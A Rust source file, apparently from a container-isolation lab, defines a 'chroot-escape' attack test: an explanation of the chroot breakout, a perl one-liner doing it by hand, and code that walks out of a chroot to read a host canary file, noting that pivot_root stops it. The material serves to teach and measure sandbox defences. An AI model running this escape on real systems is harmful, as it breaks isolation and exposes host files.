//! chroot-escape: walk out of a chroot.

use super::{Attack, Attempt, Measured};
use crate::inside::canary::canary;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::fcntl::AT_FDCWD;
use nix::libc;
use nix::unistd::{chdir, chroot};
use std::{fs, path::Path};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "chroot-escape",
    stake: "The host's whole file tree, to whoever is root in a chroot.",
    story: "chroot(2) only moves the process's root directory. The attacker calls it again, on a \
            directory further down, without going there: its working directory now lies outside of \
            its root, and `..` is stopped by nothing but the root. Sixty-four of them lead to the \
            top of the tree, where a last chroot makes it the root. The mount namespace of labs 1 \
            and 2 is a copy of the host's whole tree, so the walk ends at the host's files all the \
            same. pivot_root(2) takes the old tree away: there is nothing above the root.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        "perl -e 'mkdir \"x\"; chroot \"x\"; chdir \"..\" for 1..64; chroot \".\"; exec \"/bin/sh\"'",
    ],
    stopped_by: &["lab3-pivot/pivot-root"],
    after: &[],
    man: &["chroot(2)", "pivot_root(2)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[],
    decisive: &[libc::SYS_chroot, libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    // Any directory but the root will do; one that is there already leaves no trace.
    let below = ["/dev", "/etc", "/tmp", "/usr"].into_iter().find(|place| Path::new(place).is_dir());
    let below = below.unwrap_or_else(|| {
        let _ = fs::create_dir("/x");
        "/x"
    });
    chdir("/")?;
    me.decisive(&format!("chroot(\"{below}\"), chdir(\"..\") 64 times, chroot(\".\"), open(\"canary\")"));
    chroot(below)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    let found = canary(AT_FDCWD, &[""])?;
    me.bring_out(&found);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("canary") {
        return Seen::Effect("the attacker walked out of its root and has read a file of the host".into());
    }
    Seen::Nothing
}
